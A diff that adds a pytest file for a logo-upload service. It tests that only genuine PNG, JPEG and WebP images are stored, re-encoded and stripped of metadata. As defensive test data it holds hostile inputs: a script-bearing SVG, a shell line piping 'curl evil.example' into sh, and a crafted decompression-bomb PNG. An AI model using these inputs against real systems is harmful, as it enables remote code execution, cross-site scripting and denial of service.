@@ -1,0 +1,105 @@
+"""Logo uploads: only real PNG, JPEG and WebP images are stored, re-encoded under a random name."""
+
+from __future__ import annotations
+
+import io
+import struct
+import zlib
+
+import pytest
+from PIL import Image
+from werkzeug.datastructures import FileStorage
+
+from cluster.services.logos import MAX_SIDE, LogoError, store_logo
+
+
+def image_bytes(fmt: str, size=(1200, 800), mode="RGB", **params) -> bytes:
+    buffer = io.BytesIO()
+    Image.new(mode, size, "teal").save(buffer, fmt, **params)
+    return buffer.getvalue()
+
+
+def png_chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def png_declaring(width: int, height: int) -> bytes:
+    """A tiny, valid-looking PNG whose header claims huge dimensions: a decompression bomb."""
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + png_chunk(b"IHDR", header)
+        + png_chunk(b"IDAT", zlib.compress(b"\0" * 64))
+        + png_chunk(b"IEND", b"")
+    )
+
+
+def upload(data: bytes, filename="logo.png", content_type="image/png") -> FileStorage:
+    return FileStorage(io.BytesIO(data), filename=filename, content_type=content_type)
+
+
+SVG = (
+    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+    b"<script>alert(1)</script></svg>"
+)
+ATTACKS = {
+    "svg": (SVG, "logo.svg", "image/svg+xml", "not an image we can read"),
+    "svg renamed png": (SVG, "logo.png", "image/png", "not an image we can read"),
+    "script renamed png": (b"#!/bin/sh\ncurl evil.example | sh\n", "logo.png", "image/png",
+                           "not an image we can read"),
+    "truncated png": (image_bytes("PNG")[:300], "logo.png", "image/png", "damaged or incomplete"),
+    "png missing its end": (image_bytes("PNG")[:-30], "logo.png", "image/png",
+                            "damaged or incomplete"),
+    "decompression bomb": (png_declaring(30_000, 30_000), "logo.png", "image/png", "too large"),
+    "bomb just over the limit": (png_declaring(5_001, 5_000), "logo.png", "image/png", "too large"),
+    "over 2 MB": (b"\x89PNG\r\n\x1a\n" + bytes(2 * 1024 * 1024), "logo.png", "image/png", "2 MB"),
+    "gif": (image_bytes("GIF"), "logo.gif", "image/gif", "not an image we can read"),
+    "empty": (b"", "logo.png", "image/png", "empty"),
+}
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_each_upload_attack_gets_a_clear_error_and_stores_nothing(tmp_path, name):
+    data, filename, content_type, message = ATTACKS[name]
+    upload_dir = tmp_path / "uploads"
+    with pytest.raises(LogoError, match=message):
+        store_logo(upload(data, filename, content_type), upload_dir)
+    assert not upload_dir.exists() or list(upload_dir.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    ("fmt", "stored_format", "suffix"),
+    [("PNG", "PNG", ".png"), ("JPEG", "WEBP", ".webp"), ("WEBP", "WEBP", ".webp")],
+)
+def test_good_image_is_reencoded_small_under_a_random_name(tmp_path, fmt, stored_format, suffix):
+    exif = Image.Exif()
+    exif[0x010E] = "secret camera note"
+    params = {"exif": exif} if fmt != "PNG" else {}
+    data = image_bytes(fmt, size=(2000, 1000), **params)
+
+    first = store_logo(upload(data, "My Logo.png"), tmp_path)
+    second = store_logo(upload(data, "My Logo.png"), tmp_path)
+
+    assert first != second
+    assert first.endswith(suffix) and len(first) == 32 + len(suffix)
+    assert "logo" not in first.lower()
+    with Image.open(tmp_path / first) as stored:
+        assert stored.format == stored_format
+        assert stored.size == (MAX_SIDE, MAX_SIDE // 2)
+        assert "exif" not in stored.info
+    assert b"secret camera note" not in (tmp_path / first).read_bytes()
+
+
+def test_transparent_png_keeps_its_transparency(tmp_path):
+    data = image_bytes("PNG", size=(64, 64), mode="RGBA")
+    name = store_logo(upload(data), tmp_path)
+    with Image.open(tmp_path / name) as stored:
+        assert stored.mode == "RGBA"
+        assert stored.size == (64, 64)
+
+
+def test_a_lying_content_type_does_not_matter(tmp_path):
+    data = image_bytes("JPEG", size=(100, 100))
+    name = store_logo(upload(data, "logo.svg", "image/svg+xml"), tmp_path)
+    with Image.open(tmp_path / name) as stored:
+        assert stored.format == "WEBP"
